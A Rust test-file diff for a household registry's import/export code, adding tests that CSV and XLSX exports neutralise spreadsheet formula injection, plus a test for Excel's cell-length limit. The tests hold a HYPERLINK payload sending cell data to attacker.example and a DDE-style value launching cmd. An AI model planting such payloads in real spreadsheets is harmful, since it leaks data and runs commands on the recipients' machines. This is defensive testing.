@@ -4,6 +4,7 @@
 // only inside #[test] functions).
 #![allow(clippy::unwrap_used, clippy::panic)]
 
+mod limits;
 mod surveys;
 
 use std::io::Cursor;
@@ -12,8 +13,8 @@ use ansinh_core::registry::person::validate_person;
 use ansinh_core::registry::{HouseholdExport, PersonExport, PersonRow};
 use ansinh_core::{PartialDate, PersonDraft, Relation, RowError};
 use ansinh_files::{
-    FileError, Format, Layout, Limits, Table, parse_households, parse_persons, read_table,
-    rejected_rows, write_households, write_persons, write_rejected, write_template,
+    FileError, Format, Layout, Limits, Table, TableRow, parse_households, parse_persons,
+    read_table, rejected_rows, write_households, write_persons, write_rejected, write_template,
 };
 use calamine::Reader;
 use chrono::NaiveDate;
@@ -170,6 +171,7 @@ fn oversized_input_is_refused_before_parsing() {
     let limits = Limits {
         max_bytes: 5,
         max_rows: 10,
+        ..Limits::default()
     };
     let e = read_table(&bytes, Format::Csv, &limits).unwrap_err();
     assert_eq!(e.code(), "file.too_large");
@@ -183,6 +185,7 @@ fn too_many_rows_are_refused_in_both_formats() {
     let limits = Limits {
         max_bytes: 1 << 20,
         max_rows: 2,
+        ..Limits::default()
     };
     let header = PERSON_HEADERS.join(",");
     let (r1, r2, r3) = (good_row("1"), good_row("2"), good_row("3"));
@@ -799,4 +802,111 @@ fn rejected_rows_come_back_with_their_reasons_and_can_be_fixed_and_reimported() 
         let again = read(&again, format).unwrap();
         assert_eq!(again.headers.iter().filter(|h| *h == "Lỗi").count(), 1);
     }
+}
+
+// ---- formula injection ---------------------------------------------------------------------
+
+/// What the probe stored as an address through the web form.
+const PAYLOAD: &str = r#"=HYPERLINK("http://attacker.example/?d="&A1,"Xem")"#;
+
+/// The first data row of a CSV file ansinh wrote, field by field, as a spreadsheet sees it.
+fn csv_first_row(bytes: &[u8]) -> Vec<String> {
+    let mut reader = csv::Reader::from_reader(bytes.strip_prefix(b"\xEF\xBB\xBF").unwrap());
+    let record = reader.records().next().unwrap().unwrap();
+    record.iter().map(str::to_string).collect()
+}
+
+#[test]
+fn formula_in_an_address_is_neutralised_in_csv_and_text_in_xlsx_and_reads_back() {
+    let households = vec![HouseholdExport {
+        code: "HO-19900-0001".into(),
+        area_code: "19900".into(),
+        address: PAYLOAD.into(),
+        head_personal_id: String::new(),
+    }];
+    // CSV: the cell starts with an apostrophe, so Excel shows it as text instead of running it.
+    let csv = write_households(&households, Format::Csv).unwrap();
+    let cells = csv_first_row(&csv);
+    assert_eq!(cells[3], format!("'{PAYLOAD}"));
+    assert_eq!(cells[0], "1", "the number column keeps its number");
+
+    // XLSX: a string cell, and the sheet has no formula at all.
+    let xlsx = write_households(&households, Format::Xlsx).unwrap();
+    let mut book = calamine::Xlsx::new(Cursor::new(xlsx.clone())).unwrap();
+    let range = book.worksheet_range("Hộ gia đình").unwrap();
+    assert_eq!(
+        range.get_value((1, 3)),
+        Some(&calamine::Data::String(PAYLOAD.to_string()))
+    );
+    let formulas = book.worksheet_formula("Hộ gia đình").unwrap();
+    assert!(formulas.used_cells().all(|(_, _, f)| f.is_empty()));
+
+    // Imported again, both give back the address as it was stored.
+    for (bytes, format) in [(csv, Format::Csv), (xlsx, Format::Xlsx)] {
+        let (rows, errors) = parse_households(&read(&bytes, format).unwrap()).unwrap();
+        assert!(errors.is_empty(), "{format:?}: {errors:?}");
+        assert_eq!(rows[0].address, PAYLOAD, "{format:?}");
+    }
+}
+
+#[test]
+fn rejected_rows_csv_neutralises_what_the_upload_held_and_gives_it_back() {
+    let header = PERSON_HEADERS.join(",");
+    let bad = "-1+2,,@SUM(1+1)*cmd|' /C calc'!A0,Nam,1985,,19900,+84 905 123 456,,,";
+    let table = read(&csv_bytes(&[&header, bad]), Format::Csv).unwrap();
+    let (_, errors) = parse_persons(&table, today()).unwrap();
+    let out = write_rejected(&table.headers, &rejected_rows(&table, &errors), Format::Csv).unwrap();
+    let cells = csv_first_row(&out);
+    for cell in &cells {
+        assert!(
+            !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+            "{cell:?} in {cells:?}"
+        );
+    }
+    assert_eq!(cells[0], "'-1+2");
+    assert_eq!(cells[2], "'@SUM(1+1)*cmd|' /C calc'!A0");
+    assert_eq!(cells[7], "'+84 905 123 456");
+    // Read back, the cells are what was uploaded, so the officer can fix the file and retry.
+    assert_eq!(
+        read(&out, Format::Csv).unwrap().rows[0].cells[..11],
+        table.rows[0].cells[..]
+    );
+}
+
+// ---- Excel's cell limit ----------------------------------------------------------------------
+
+#[test]
+fn rejected_rows_longer_than_an_xlsx_cell_are_cut_with_a_marker_not_a_failure() {
+    let name = "Ả".repeat(40_000);
+    let table = Table {
+        headers: PERSON_HEADERS.iter().map(|h| h.to_string()).collect(),
+        rows: vec![TableRow {
+            line: 2,
+            cells: PERSON_HEADERS
+                .iter()
+                .enumerate()
+                .map(|(i, _)| if i == 2 { name.clone() } else { String::new() })
+                .collect(),
+        }],
+    };
+    // Every reason of a row joined in the "Lỗi" column can pass the limit too.
+    let errors: Vec<RowError> = (0..400)
+        .map(|i| RowError {
+            line: 2,
+            column: PERSON_HEADERS[i % 11].to_string(),
+            code: "name.chars",
+            message: "x".repeat(100),
+        })
+        .collect();
+    let rejected = rejected_rows(&table, &errors);
+    let xlsx = write_rejected(&table.headers, &rejected, Format::Xlsx).unwrap();
+    let back = read(&xlsx, Format::Xlsx).unwrap();
+    for cell in [&back.rows[0].cells[2], &back.rows[0].cells[11]] {
+        assert!(cell.ends_with("…(cắt bớt)"), "{}", &cell[cell.len() - 40..]);
+        assert_eq!(cell.encode_utf16().count(), 32_767);
+    }
+    assert!(back.rows[0].cells[2].starts_with("ẢẢẢ"));
+    // CSV has no such limit: the cell is written whole.
+    let csv = write_rejected(&table.headers, &rejected, Format::Csv).unwrap();
+    assert_eq!(csv_first_row(&csv)[2], name);
 }
